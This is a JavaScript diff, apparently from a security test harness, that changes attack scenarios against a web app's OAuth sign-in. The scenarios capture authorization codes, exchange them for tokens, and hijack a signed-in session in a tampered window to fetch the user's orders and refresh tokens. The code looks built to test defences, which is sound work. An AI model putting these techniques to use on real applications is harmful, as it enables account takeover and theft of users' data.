@@ -52,7 +52,7 @@ export const ownGrant = async ({ env, tell }, watch, open, mode) => {
     return (code ??= new URLSearchParams(at).get("code"));
   };
   const w = open(`${issuer}/auth?${query}`, mode ? "" : "allow-same-origin");
-  await watch(w, look, 5_000);
+  await watch(w, look, 20_000);
   const body = new URLSearchParams({
     ...{ grant_type: "authorization_code", client_id: clientId, redirect_uri: redirectUri },
     ...{ code, code_verifier: verifier },
@@ -60,23 +60,36 @@ export const ownGrant = async ({ env, tell }, watch, open, mode) => {
   tell(await (await fetch(`${issuer}/token`, { method: "POST", body })).text());
 };
 
-/** The app once more, in a window whose functions are changed before the app's script runs. */
-export const appIn = async (attack, watch, open, change) => {
+/** The app once more, in a window whose functions are changed before the app's script runs. It is made to work there. */
+export const appIn = async ({ env, tell }, watch, open, change) => {
   const changed = new WeakSet();
-  let signedIn = false;
+  let worked = false;
+  let signingIn = false;
+  const work = async (auth) => {
+    tell(await (await auth.fetch(env.orders)).text());
+    await auth.refresh();
+    await new Promise((resolve) => setTimeout(resolve, 1_000));
+    worked = true;
+  };
+  let working = false;
   const each = (w) => {
     if (w.location.origin !== location.origin) return false;
-    if (!changed.has(w.document) && w.location.pathname !== "blank") {
+    if (!changed.has(w.document)) {
       changed.add(w.document);
       change(w);
     }
-    if (!signedIn && w.auth?.state.status === "signedOut") {
-      signedIn = true;
+    const status = w.auth?.state.status;
+    if (status === "signedOut" && !signingIn) {
+      signingIn = true;
       void w.auth.signIn().catch(() => {});
     }
-    return false;
+    if (status === "signedIn" && !working) {
+      working = true;
+      void work(w.auth).catch(() => (worked = true));
+    }
+    return worked;
   };
-  await watch(open("/"), each, 4_000);
+  await watch(open("/"), each, 20_000);
 };
 
 /** What is kept for the redirect page names the attacker's server. */
